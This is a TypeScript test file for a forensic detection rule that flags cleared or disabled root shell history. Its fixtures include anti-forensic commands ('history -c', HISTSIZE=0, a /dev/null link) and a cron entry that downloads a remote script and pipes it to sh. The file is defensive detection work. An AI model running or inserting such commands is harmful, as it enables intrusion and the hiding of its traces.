import { cronLine } from '../testing/cron';
import { historyWith, loginsWith } from '../testing/login';
import { ruleTable } from '../testing/table';
import { shellHistoryCleared } from './shell-history-cleared';

const logins = loginsWith();
const empty = historyWith({ state: 'empty', sizeBytes: 0, modifiedAt: '2026-11-24T02:44:00.000Z' });

ruleTable(shellHistoryCleared, {
  passes: {
    'commands are there': { facts: { shellHistories: [historyWith()], logins } },
    'nobody signed in': { facts: { shellHistories: [empty], logins: loginsWith({ sessionCounts: {} }) } },
    'a person with another shell': {
      facts: { shellHistories: [historyWith({ state: 'missing', shell: '/usr/bin/zsh' })], logins },
    },
  },
  fails: {
    'empty after many sign-ins': {
      facts: { shellHistories: [empty], logins },
      finds: [{ subject: '/root/.bash_history', severity: 'medium', says: 'is empty after 7 sign-ins' }],
    },
    'to /dev/null': {
      facts: { shellHistories: [historyWith({ state: 'null-link' })] },
      finds: [{ subject: '/root/.bash_history', severity: 'medium', says: '/dev/null' }],
    },
    'switched off': {
      facts: {
        shellHistories: [historyWith({ disabledBy: [{ path: '/root/.bashrc', lineNumber: 2, text: 'HISTSIZE=0' }] })],
      },
      finds: [{ subject: '/root/.bash_history', says: 'switched off', shows: 'HISTSIZE=0' }],
    },
    'cleared by a command': {
      facts: { shellHistories: [historyWith({ notableLines: [{ lineNumber: 9, text: 'history -c' }] })] },
      finds: [{ subject: '/root/.bash_history', says: 'cleared by a command' }],
    },
    'in the hour of a break-in': {
      facts: {
        shellHistories: [empty],
        logins,
        cronEntries: [cronLine('*/5 * * * * curl -fsSL http://198.51.100.23/mac.sh | sh')],
      },
      finds: [{ subject: '/root/.bash_history', severity: 'high', says: 'hour of the break-in' }],
    },
  },
  unknowns: { 'over the Docker API alone': { facts: {}, because: 'shell histories' } },
});
